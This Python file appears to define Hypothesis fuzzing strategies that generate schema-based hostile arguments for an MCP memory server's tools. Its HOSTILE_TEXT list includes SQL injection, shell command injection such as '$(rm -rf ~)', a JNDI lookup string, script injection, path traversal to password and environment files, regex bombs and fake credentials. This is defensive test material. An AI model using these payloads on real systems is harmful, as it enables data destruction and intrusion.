"""Hypothesis strategies for hostile MCP tool arguments, built from each tool's input schema.

Every parameter gets values that fit its schema, values that break it at its edges (one past a
length or a bound), values of the wrong type, and hostile text: NUL, lone surrogates, byte-order
marks, right-to-left overrides, SQL, path traversal, template and shell syntax, regex bombs, the
worst cases of the store's own patterns repeated up to (and past) the content limit, JSON nested
past what the gateway's parser takes, numbers past what a float or a 64-bit integer holds.
Parameters the server reads as a path, a time, ids or JSON get values of their own kind too.
Large values are built from small draws (a unit and a length), so hypothesis stays fast.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

from hypothesis import strategies as st

from shared import limits

from .support import Raw

HOSTILE_TEXT = [
    "", " ", "\t\r\n", "\x00", "a\x00b", "\ud800", "x\udfffy", "\udc00\ud800", "\ufeffBOM",
    "\uffff", "\ufffe", "\u202eevil\u202c", "\u200b\u200d", "e\u0301\u0301\u0301", "\U0010ffff",
    "\U0001f980" * 8, "\x1b[31mred", "\x7f\x80\x9f", "line\u2028break\u2029",
    "'; DROP TABLE memories; --", "\" OR 1=1 --", "1; SELECT * FROM memory_embeddings",
    "' UNION SELECT content FROM memories --", "%s%s%n%x", "{{7*7}}", "${jndi:ldap://x/a}",
    "$(rm -rf ~)", "`reboot`", "<script>alert(1)</script>", "\r\n\r\nHTTP/1.1 200 OK",
    "../../../../etc/passwd", "..\\..\\windows\\system32", "/etc/shadow", "~/.bashrc",
    "file:///etc/passwd", "\\\\server\\share", "/dev/zero", "/proc/self/environ", ".", "..",
    "(a+)+$", "(a|a)*b", "^(([a-z])+.)+[A-Z]([a-z])+$", "a" * 64 + "!", "*", "%", "_", "?",
    "NULL", "null", "None", "NaN", "-1", "0", "1e309", "true", "[]", "{}",
    "yesterday", "last week", "past 3 days", "since 2026-01-01", "past 99999999999999 days",
    "since 9999-12-31", "between 2026-05-01 and 1970-01-01", "last 0 days", "-5 days ago",
    "9999-12-31T23:59:59Z", "0001-01-01T00:00:00", "2026-02-30", "2026-13-01", "now",
    "AKIAIOSFODNN7EXAMPLE", "api_key=sk-ant-0123456789abcdef0123456789",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIE", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
    "https://user:hunter2@example.com/", "Traceback (most recent call last):\nValueError",
]

# Units repeated to a length: the worst cases of redaction, tokenising, snippets, surrogates.
UNITS = ["a.", "key=", "eyJ-", "token=", "-----BEGIN ", "a://", "\\u", "`a ", "aB", "sk-",
         "a/", "\u00e9.", "\U0001f980", "\x00", "\ud800", "(", "[", '{"', " ", "x", "a.b.key "]

TIME_WORDS = ["today", "yesterday", "last week", "this month", "past 3 days", "2 weeks ago",
              "since 2026-01-01", "between 2026-01-01 and 2026-02-01", "last 100000 days",
              "since 0001-01-01", "since 9999-12-31", "past 0 days"]
EDGE_TIMES = ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "0001-01-01",
              "9999-12-31T23:59:59.999999", "2026-01-01T00:00:00+25:00", "2026-W01"]
DEPTHS = [10, 150, 199, 250, 1000, 5000]  # the gateway's JSON parser gives up near 200
WRONG_NUMBERS = [Raw("NaN"), Raw("Infinity"), Raw("-Infinity"), Raw("1e400"), Raw("-0.0"),
                 Raw("9" * 5000), 2**63, -(2**63) - 1, 10**30, 1.5, -1e-300]


def repeat(unit: str, n: int) -> str:
    return (unit * (n // len(unit) + 1))[:n]


def nested(kind: str, depth: int) -> Raw:
    if kind == "list":
        return Raw("[" * depth + "1" + "]" * depth)
    return Raw('{"a":' * depth + "1" + "}" * depth)


@dataclass
class Context:
    """What the strategies sample besides generated values: paths the test prepared (inside and
    outside the allowed places), memory ids that exist, projects in use."""

    paths: list[str]
    ids: list[str]
    projects: list[str] = field(default_factory=lambda: ["hostile", "p", "x" * 200])


def huge_text(max_length: int | None) -> st.SearchStrategy[str]:
    edges = [10_000, 100_000, limits.MAX_CONTENT_BYTES + 1, 150_000]
    if max_length is not None:
        edges += [max_length, max_length + 1]
    return st.builds(repeat, st.sampled_from(UNITS), st.sampled_from(sorted(set(edges))))


def wrong_type() -> st.SearchStrategy[Any]:
    return st.one_of(
        st.none(), st.booleans(), st.integers(), st.sampled_from(WRONG_NUMBERS),
        st.lists(st.integers(), max_size=3), st.dictionaries(st.text(max_size=3), st.integers(),
                                                             max_size=2),
        st.sampled_from(DEPTHS).map(lambda d: nested("list", d)),
    )


def text_for(name: str, schema: dict[str, Any], ctx: Context,
             fits: bool) -> st.SearchStrategy[str]:
    """Strings for a string parameter. ``fits``: only strings its schema accepts (hostile in
    what they say, not in their length); else also the edges and past them."""
    lo, hi = schema.get("minLength", 0), schema.get("maxLength")
    if "enum" in schema:
        return st.sampled_from(schema["enum"]) if fits else st.one_of(
            st.sampled_from(schema["enum"]), st.sampled_from(HOSTILE_TEXT))
    in_bounds = [t for t in HOSTILE_TEXT if lo <= len(t) <= (hi or len(t))]
    lengths = sorted({n for n in (hi, 10_000, limits.MAX_CONTENT_BYTES)
                      if n is not None and lo <= n <= (hi or n)})
    kinds: list[st.SearchStrategy[Any]] = [
        st.text(min_size=lo, max_size=min(hi or 60, 60)), st.sampled_from(in_bounds)]
    if lengths:
        kinds.append(st.builds(repeat, st.sampled_from(UNITS), st.sampled_from(lengths)))
    if name == "path":
        kinds.insert(0, st.sampled_from([p for p in ctx.paths if lo <= len(p) <= (hi or 1e9)]))
    elif name in ("project", "current_project", "source_project", "target_project"):
        kinds.insert(0, st.sampled_from(ctx.projects))
    elif name == "before":
        kinds.insert(0, st.datetimes().map(lambda d: d.isoformat()) | st.sampled_from(EDGE_TIMES))
    elif name == "time_expression":
        kinds.insert(0, st.sampled_from(TIME_WORDS))
    if fits:
        return st.one_of(*kinds)
    edges = [st.sampled_from(HOSTILE_TEXT), huge_text(hi)]
    if hi is not None:
        edges.append(st.builds(repeat, st.sampled_from(UNITS), st.sampled_from([hi + 1])))
    return st.one_of(*kinds, *edges)


def value_for(name: str, prop: dict[str, Any], ctx: Context,
              fits: bool) -> st.SearchStrategy[Any]:
    """A value for one parameter (``prop`` is its JSON schema). ``fits``: of the type and within
    the bounds the schema states; else anything, the wrong types included."""
    options = [o for o in prop.get("anyOf", [prop]) if o.get("type") != "null"]
    nullable = len(options) < len(prop.get("anyOf", [prop]))
    schema = options[0] if options else prop
    kind = schema.get("type")
    if kind == "string":
        value = text_for(name, schema, ctx, fits)
    elif kind == "integer":
        lo, hi = schema.get("minimum", -(2**31)), schema.get("maximum", 2**31)
        value = st.integers(lo, hi) if fits else st.one_of(
            st.integers(lo, hi), st.sampled_from([lo - 1, hi + 1, -1, 0]),
            st.sampled_from(WRONG_NUMBERS))
    elif kind == "number":
        lo, hi = schema.get("minimum", -1e9), schema.get("maximum", 1e9)
        value = st.floats(lo, hi) if fits else st.one_of(
            st.floats(lo, hi), st.floats(allow_nan=True, allow_infinity=True),
            st.sampled_from(WRONG_NUMBERS))
    elif kind == "boolean":
        value = st.booleans() if fits else st.sampled_from([True, False, "true", 0, 1, "yes"])
    elif kind == "array":
        value = list_for(name, schema, ctx, fits)
    elif kind == "object":
        value = json_object(fits)
    else:
        value = st.just({})
    if fits:
        return st.one_of(value, st.none()) if nullable else value
    return st.one_of(value, st.none(), wrong_type())


def list_for(name: str, schema: dict[str, Any], ctx: Context,
             fits: bool) -> st.SearchStrategy[Any]:
    items = schema.get("items", {})
    lo, hi = schema.get("minItems", 0), schema.get("maxItems", 50)
    if name == "ids":
        item = st.sampled_from(ctx.ids) | st.text(min_size=1, max_size=64)
    elif items.get("type") == "string":
        item = text_for(name, items, ctx, fits)
    else:
        item = wrong_type()
    valid = st.one_of(st.lists(item, min_size=lo, max_size=min(hi, 8)),
                      st.builds(lambda n: [f"v{i}" for i in range(n)], st.sampled_from([hi])))
    if fits:
        return valid
    return st.one_of(
        valid, st.builds(lambda n, s: [s] * n, st.sampled_from([hi + 1, 5000]),
                         st.text(max_size=5)),
        st.lists(st.sampled_from(HOSTILE_TEXT), max_size=4),
        st.sampled_from(DEPTHS).map(lambda d: nested("list", d)),
    )


def json_object(fits: bool) -> st.SearchStrategy[Any]:
    """JSON objects (metadata): small ones with hostile keys and values, deep ones, big ones.
    ``fits``: what JSON and the gateway's parser accept (the store has its own limits)."""
    scalars = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False),
                        st.text(max_size=20), st.sampled_from(HOSTILE_TEXT))
    small = st.recursive(scalars, lambda kids: st.lists(kids, max_size=3)
                         | st.dictionaries(st.text(max_size=8), kids, max_size=3), max_leaves=12)
    depths = [d for d in DEPTHS if d < 190] if fits else DEPTHS
    strange = [{"\x00": 1}, {"\ud800": "x"}, {"": None}, {"a": [None, {}, []]}]
    if not fits:
        strange += [{"a": Raw("NaN")}, {"a": Raw("9" * 5000)}]
    return st.one_of(
        st.dictionaries(st.text(max_size=10) | st.sampled_from(HOSTILE_TEXT), small, max_size=5),
        st.sampled_from(depths).map(lambda d: Raw('{"deep":' + nested("dict", d).text + "}")),
        st.builds(lambda n: {"big": "x" * n}, st.sampled_from(
            [limits.MAX_METADATA_BYTES - 20, limits.MAX_METADATA_BYTES + 1, 100_000])),
        st.builds(lambda n: {f"k{i}": i for i in range(n)}, st.sampled_from([1000, 5000])),
        st.sampled_from(strange),
    )


def arguments_for(tool: dict[str, Any], ctx: Context) -> st.SearchStrategy[Any]:
    """The ``arguments`` of a call of ``tool`` (an entry of tools/list): calls whose every value
    fits the schema (so they reach the store and the search, with hostile text), calls with any
    values, calls missing required parameters, calls with unknown ones."""
    props = tool["inputSchema"].get("properties", {})
    required = set(tool["inputSchema"].get("required", []))
    extra = st.dictionaries(st.sampled_from(["bogus", "id", "__proto__", "content\x00", ""])
                            | st.text(max_size=6), wrong_type(), min_size=1, max_size=2)
    if not props:  # ping, status, ...: the empty call is the only valid one
        return st.one_of(st.just({}), extra)

    def call(fits: bool, all_optional: bool = False) -> st.SearchStrategy[dict[str, Any]]:
        values = {n: value_for(n, prop, ctx, fits) for n, prop in props.items()}
        must = {} if all_optional else {n: v for n, v in values.items() if n in required}
        return st.fixed_dictionaries(must, optional={n: v for n, v in values.items()
                                                     if n not in must})

    fitting, anything = call(True), call(False)
    return st.one_of(
        fitting, fitting, anything, anything, call(False, all_optional=True),
        st.builds(lambda args, more: {**more, **args}, fitting, extra),
    )
